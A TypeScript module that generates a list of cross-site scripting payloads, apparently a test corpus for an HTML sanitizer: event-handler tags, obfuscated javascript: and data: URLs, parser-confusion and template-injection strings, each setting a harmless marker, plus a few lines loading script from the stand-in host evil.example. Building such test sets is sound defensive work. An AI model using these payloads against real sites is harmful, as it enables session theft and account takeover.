/** What a payload does when it runs. */
const RUN = "window.__ran=1";

const EVENTS =
  "onload onerror onclick onmouseover onfocus onblur onanimationstart ontoggle onpointerenter onbegin onwheel oncopy".split(" ");
const TAGS = "img svg video audio details body iframe input div a marquee object form select style math".split(" ");
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "java\nscript:",
  "java\tscript:",
  "\u0001javascript:",
  "javascript&colon;",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "vbscript:",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=window.__ran=1>",
  "//evil.example/",
  "\\\\evil.example\\",
];

/** A tag with each of the events, in several spellings. */
const byEvent = TAGS.flatMap((tag, at) => {
  const [first = "", second = ""] = [EVENTS[at % EVENTS.length], EVENTS[(at + 5) % EVENTS.length]];
  return [
    `<${tag} src=x ${first}=${RUN}>`,
    `<${tag.toUpperCase()}/${second.toUpperCase()}="${RUN}" tabindex=1 autofocus>`,
    `<${tag}\n${first}\n=\n'${RUN}' style="animation:x">x</${tag}>`,
  ];
});

/** An address of each scheme in each place that takes one. */
const byScheme = SCHEMES.flatMap((scheme) => [
  `<a href="${scheme}${RUN}">link</a>`,
  `<img src="${scheme}${RUN}">`,
  `<iframe src="${scheme}${RUN}"></iframe>`,
  `<form action="${scheme}${RUN}"><button>send</button></form>`,
]);

/** Constructs that confuse parsers: nested, unclosed, in other namespaces, in comments, as templates. */
const crafted = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `</noscript><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<style>*{background:url("javascript:${RUN}")}</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>"></iframe></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<template><script>${RUN}</script></template>`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<a href="#" id=location name=__proto__ onclick=${RUN}>x</a>`,
  `<img name=getElementById><form id=document></form>`,
  `<img src="x\` \`<script>${RUN}</script>">`,
  `\u2028<img src=x onerror=${RUN}>\u2029`,
  `＜script＞${RUN}＜/script＞`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `$&<script>${RUN}</script>$'`,
  `[x](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
];

/** Texts that would run a script where they are shown as markup. Each sets `window.__ran`. */
export const XSS_PAYLOADS: readonly string[] = [...byEvent, ...byScheme, ...crafted];
